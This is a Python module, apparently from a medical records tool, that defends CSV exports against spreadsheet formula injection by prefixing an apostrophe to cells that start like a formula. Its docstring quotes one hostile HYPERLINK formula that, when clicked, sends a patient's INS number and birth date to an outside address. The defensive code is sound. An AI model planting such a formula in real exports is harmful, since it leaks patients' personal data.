"""Cells of the CSV exports written so that a spreadsheet reads each as the text it is.

``acts export`` and ``audit export`` are opened in a spreadsheet (LibreOffice Calc, Excel) as often as read
by a program. There, a cell that begins with ``=``, ``+``, ``-`` or ``@`` (or a tab or a carriage return
before one of them) is a formula: a file number imported from another program as
``=HYPERLINK("http://…/?"&E2&D2;"D-2291")`` showed « D-2291 » and, clicked, sent the patient's INS and birth
date to that address. Such a cell is written with a leading apostrophe, as the spreadsheets themselves mark
text (the OWASP advice on CSV injection); every other cell is written unchanged.
"""

from __future__ import annotations

from collections.abc import Iterable

#: What makes a spreadsheet read a cell as a formula when the cell begins with it.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def as_text(value: object) -> object:
    """``value`` as a spreadsheet must read it: a string beginning as a formula gets a leading apostrophe."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def row_as_text(values: Iterable[object]) -> list[object]:
    """A CSV row with each cell as :func:`as_text` writes it."""
    return [as_text(value) for value in values]
